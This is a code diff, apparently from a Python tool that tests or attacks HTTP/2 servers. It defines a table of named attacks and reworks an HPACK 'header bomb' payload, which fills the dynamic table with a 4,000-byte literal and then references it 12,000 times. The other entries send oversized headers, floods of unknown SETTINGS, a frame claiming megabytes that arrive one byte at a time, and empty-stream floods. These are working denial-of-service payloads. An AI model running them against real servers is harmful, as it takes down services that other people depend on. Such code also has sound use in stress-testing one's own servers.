@@ -192,7 +192,9 @@ async def _main(name: str, port: str, seconds: str, source: str) -> None:
 
 HELLO = PREFACE + settings()
 _PING = frame(PING, payload=b"8 bytes.")
-_BOMB = b"\x40\x01a\x7f\xa1\x1e" + b"x" * 4000  # a literal of 4,000 bytes into the dynamic table
+# A dynamic table of 4,096 bytes, a request, a literal of 4,000 bytes into the table, and 12,000 fields that are it.
+_LITERAL = b"\x40\x01a\x7f\xa1\x1e" + b"x" * 4000
+_BOMB = b"\x3f\xe1\x1f" + _REQUEST.removeprefix(b"\x20") + _LITERAL + b"\xbe" * 12_000
 _MANY_UNKNOWN = frame(SETTINGS, payload=b"".join(struct.pack(">HL", 4096 + code, 1) for code in range(2000)))
 _DRIPPED = b"\0\0\x3f\xff\xff"  # says that four megabytes follow
 
@@ -234,7 +236,7 @@ ATTACKS: dict[str, Attack] = {
     "huge headers": Attack(
         HELLO, lambda: repeated(lambda each: frame(HEADERS, each, b"\0\x01a\x7f\xad\x7e" + b"x" * 16_300, END_HEADERS))
     ),
-    "header bomb": Attack(HELLO, lambda: repeated(lambda each: open_stream(each, _REQUEST + _BOMB + b"\xbe" * 12_000))),
+    "header bomb": Attack(HELLO, lambda: repeated(lambda each: open_stream(each, _BOMB))),
     "empty data": Attack(HELLO + open_stream(1), lambda: same(frame(DATA, 1))),
     "one byte a frame": Attack(HELLO + open_stream(1) + frame(DATA, 1, _DRIPPED), _one_byte),
     "empty calls": Attack(HELLO, lambda: repeated(lambda each: open_stream(each, flags=END_HEADERS | END_STREAM))),
